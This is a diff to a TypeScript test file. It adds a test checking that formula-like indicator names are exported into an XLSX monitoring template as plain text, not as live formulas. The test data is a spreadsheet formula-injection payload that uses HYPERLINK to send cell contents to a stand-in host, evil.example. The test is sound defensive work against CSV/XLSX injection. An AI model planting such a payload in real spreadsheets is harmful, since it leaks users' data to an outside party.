@@ -1,4 +1,5 @@
 import ExcelJS from 'exceljs'
+import JSZip from 'jszip'
 import { describe, expect, it } from 'vitest'
 import { addMember, createPlan, createUser } from '#db/factories/index.ts'
 import * as MeasurementRepository from '#db/repositories/measurements.ts'
@@ -130,5 +131,23 @@ describe('importing measurements', () => {
     const workbook = new ExcelJS.Workbook()
     await workbook.xlsx.load(await xlsx.arrayBuffer())
     expect(workbook.getWorksheet('indicators')!.getRow(2).getCell(1).value).toBe('K1')
+  })
+
+  it('writes indicator names that look like formulas into the XLSX template as text', async () => {
+    const { plan, lead, cookie } = await setup()
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    await ItemRepository.insert(db, { planId: plan.id, kind: 'indicator', refPrefix: 'K', data: { name: evil, indicatorType: 'output', unit: 'other' }, actorId: lead.id })
+    const xlsx = await templateLoader(args(makeRequest(`/plans/${plan.id}/monitoring/template?format=xlsx`, { cookie }), { planId: plan.id }))
+    const bytes = await xlsx.arrayBuffer()
+    const zip = await JSZip.loadAsync(bytes)
+    const sheets = Object.keys(zip.files).filter((name) => name.startsWith('xl/worksheets/sheet'))
+    expect(sheets.length).toBe(2)
+    for (const name of sheets) expect(await zip.file(name)!.async('string')).not.toContain('<f>')
+    const workbook = new ExcelJS.Workbook()
+    await workbook.xlsx.load(bytes)
+    const cell = workbook.getWorksheet('indicators')!.getRow(4).getCell(2)
+    expect(cell.type).toBe(ExcelJS.ValueType.String)
+    expect(cell.value).toBe(evil)
+    expect(cell.numFmt).toBe('@')
   })
 })
